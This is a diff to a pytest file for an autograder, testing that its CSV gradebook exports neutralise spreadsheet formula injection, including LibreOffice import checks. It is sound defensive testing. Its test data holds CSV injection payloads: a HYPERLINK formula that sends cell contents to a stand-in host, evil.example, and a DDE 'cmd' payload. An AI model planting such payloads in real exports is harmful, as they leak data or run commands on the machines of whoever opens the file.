@@ -1,20 +1,28 @@
-"""No CSV the course writes holds a spreadsheet formula (OWASP's CSV injection).
+"""No CSV the course writes holds a spreadsheet formula (OWASP's CSV injection), however imported.
 
 A class whose student ids, names, emails, LMS ids, notebook names and messages start with
-each formula character (``=``, ``+``, ``-``, ``@``, tab, carriage return) goes into a real
-SQLite gradebook and into ``grades.csv``; ``grades.csv``, the plain export and the Canvas
-and Moodle imports are written, read back with :mod:`csv`, and every cell is checked: one
-that starts with a formula character must be a number, any other such text carries a
-leading apostrophe, and the scores still read as numbers.
+each formula character (``=``, ``+``, ``-``, ``@``, tab, carriage return), or hold one after a
+semicolon, a tab, a comma or spaces (``x;=1+1``: a formula when the spreadsheet imports the
+file with semicolons or tabs as separators, or trims spaces), goes into a real SQLite
+gradebook and into ``grades.csv``; ``grades.csv``, the plain export and the Canvas and Moodle
+imports are written, read back with :mod:`csv`, and every cell is checked: one that starts
+with a formula character must be a number, any other such text carries a leading
+apostrophe, and the scores still read as numbers. Then by rule (every place any of those
+imports could start a field) and in real LibreOffice (``soffice --headless --convert-to``
+with each separator and trimmed spaces): no cell of any file is a formula, while the same
+text written raw is.
 """
 
 import csv
+import re
+import shutil
+import subprocess
 
 import pytest
 
 from autograder.core.gradebook import open_gradebook
 from autograder.core.results import Status, StudentResult
-from autograder.core.untrusted import FORMULA_STARTS
+from autograder.core.untrusted import FORMULA_STARTS, csv_safe
 from autograder.host.exports import export_csv, export_lms
 from autograder.host.roster import RosterEntry, sync_roster
 from autograder.host.summary import write_csv
@@ -22,8 +30,11 @@ from autograder.host.summary import write_csv
 # one hostile value per formula character, in every field a student can choose
 STUDENTS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3",
             "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "ada"]
-ROSTER = [RosterEntry(sid, first_name=f"=first{i}", last_name=f"+last{i}",
-                      email=f"@mail{i}" if sid != "ada" else "ada@uni.edu", lms_id=f"-lms{i}")
+# formulas that only another import cuts out: after a semicolon, a tab, a comma, spaces, a quote
+INSIDE = ["x;=1+11", "x\t=1+12", "x, =1+13", " =1+14", 'x;"=1+15', "x\n@SUM(1;16)", "x;-1-17"]
+ROSTER = [RosterEntry(sid, first_name=f"=first{i}", last_name=f"+last{i}" + INSIDE[i % len(INSIDE)],
+                      email=f"@mail{i}" if sid != "ada" else "ada@uni.edu",
+                      lms_id=f"-lms{i}" if sid != "ada" else " =1+19")  # a formula once spaces are trimmed
           for i, sid in enumerate(STUDENTS)]
 SCORES = {sid: 1.5 * i for i, sid in enumerate(STUDENTS)}
 
@@ -78,10 +89,10 @@ def test_exports_hold_no_formula(gradebook, tmp_path):
     # every id, name ("First Last"), email and LMS id that starts like a formula
     hostile = [v for e in ROSTER for v in (e.student_id, f"{e.first_name} {e.last_name}", e.email, e.lms_id)
                if v.startswith(FORMULA_STARTS)]
-    assert assert_inert(plain) == len(hostile) == 26
+    assert assert_inert(plain) == len(hostile) == 25
     by_id = {row[0]: row for row in plain[1:]}
     for sid in STUDENTS:  # the text is all there, behind one apostrophe, and scores are numbers
-        row = by_id["'" + sid if sid.startswith(FORMULA_STARTS) else sid]
+        row = by_id[csv_safe(sid)]
         assert float(row[plain[0].index("score")]) == SCORES[sid]
         assert float(row[plain[0].index("max_score")]) == 10
     assert assert_inert(canvas) >= 6 * 2  # name ("Last, First" starts with +) and ID
@@ -92,7 +103,7 @@ def test_exports_hold_no_formula(gradebook, tmp_path):
 
 def hostile_result(sid, score):
     return StudentResult(student=sid, score=score, max_score=10.0, status=Status.OK,
-                         message=f"=HYPERLINK(\"http://evil.example\",\"{sid}\").ipynb",
+                         message=f"=HYPERLINK(\"http://evil.example\",\"{sid}\").ipynb;{' '.join(INSIDE)}",
                          flags=["-flag"], tampered=["@cell"], seconds=1.5)
 
 
@@ -105,7 +116,7 @@ def test_grades_csv_holds_no_formula_and_rewrites_add_no_apostrophe(tmp_path):
     for row in first[1:]:
         assert float(row[header.index("score")]) in SCORES.values()
         assert float(row[header.index("seconds")]) == 1.5
-        assert row[header.index("error")].startswith("'=HYPERLINK")
+        assert row[header.index("message")].startswith("'=HYPERLINK") and row[header.index("error")] == ""
         assert row[header.index("flags")] == "'-flag" and row[header.index("tampered")] == "'@cell"
     # another assignment's run reads the file back and rewrites it: the first rows stay as they were
     write_csv(path, "02-gqa", [hostile_result(s, 0.0) for s in STUDENTS[:2]])
@@ -119,3 +130,62 @@ def test_grades_csv_holds_no_formula_and_rewrites_add_no_apostrophe(tmp_path):
     regraded = read(path)
     assert len(regraded) == len(again)
     assert {r[header.index("score")] for r in regraded if r[1] == "01-rope"} == {"9"}
+
+
+# -- any import: by rule, and in LibreOffice ----------------------------------------------
+FIELD_START = re.compile(r'(?:^|[,;\t\r\n])[ "]*([^,;\t\r\n]*)')
+
+
+def live_fields(text):
+    """Every field that starts with a formula character and is no number, wherever a comma,
+    semicolon or tab import (quoted or not, spaces trimmed or not) could start one."""
+    return [f for f in FIELD_START.findall(text) if f.startswith(FORMULA_STARTS[:4]) and not is_number(f.strip())]
+
+
+@pytest.fixture
+def written(gradebook, tmp_path):
+    """Every CSV the course writes from the hostile class, and a control written raw."""
+    files = {name: tmp_path / f"{name}.csv" for name in ("plain", "canvas", "moodle", "grades")}
+    export_csv(gradebook, files["plain"])
+    export_lms(gradebook, files["canvas"], "canvas")
+    export_lms(gradebook, files["moodle"], "moodle")
+    write_csv(files["grades"], "01-rope", [hostile_result(s, v) for s, v in SCORES.items()])
+    control = tmp_path / "control.csv"
+    with open(control, "w", newline="") as f:
+        csv.writer(f).writerows([["n", "text"]] + [[i, t] for i, t in enumerate(STUDENTS[:4] + INSIDE)])
+    return files, control
+
+
+def test_no_field_of_any_import_is_a_formula_by_rule(written):
+    files, control = written
+    for name, path in files.items():
+        assert live_fields(path.read_text()) == [], name
+    assert len(live_fields(control.read_text())) >= 10  # the rule sees the raw text's formulas
+
+
+SOFFICE = shutil.which("soffice")
+# LibreOffice's CSV import options: separators (ASCII codes), quote, UTF-8, first line, cell
+# formats, language, quoted field as text, detect special numbers, (export), (export), trim spaces
+IMPORTS = {"comma": "44,34,76,1", "comma, trimmed": "44,34,76,1,,0,false,true,false,false,true",
+           "semicolon, trimmed": "59,34,76,1,,0,false,true,false,false,true",
+           "tab, trimmed": "9,34,76,1,,0,false,true,false,false,true",
+           "all three, trimmed": "44/59/9,34,76,1,,0,false,true,false,false,true"}
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice not found: run `apt-get install libreoffice-calc-nogui`")
+@pytest.mark.parametrize("how", IMPORTS)
+def test_libreoffice_evaluates_no_cell_under_any_separator(written, tmp_path, how):
+    """Each file opened by LibreOffice Calc (headless) with one import's options, saved as flat
+    ODS: no cell holds a formula; the control, the same text written raw, holds several."""
+    files, control = written
+    out = tmp_path / how.replace(", ", "-").replace(" ", "-")
+    paths = [*files.values(), control]
+    done = subprocess.run([SOFFICE, f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}", "--headless",
+                           f"--infilter=CSV:{IMPORTS[how]}", "--convert-to", "fods", "--outdir", str(out),
+                           *map(str, paths)], capture_output=True, text=True, timeout=300)
+    assert done.returncode == 0, done.stderr
+    formulas = {p.stem: re.findall(r'table:formula="([^"]*)"', (out / f"{p.stem}.fods").read_text())
+                for p in paths}
+    assert formulas.pop("control"), f"the control held no formula under the {how} import"
+    assert formulas == dict.fromkeys(files, []), formulas
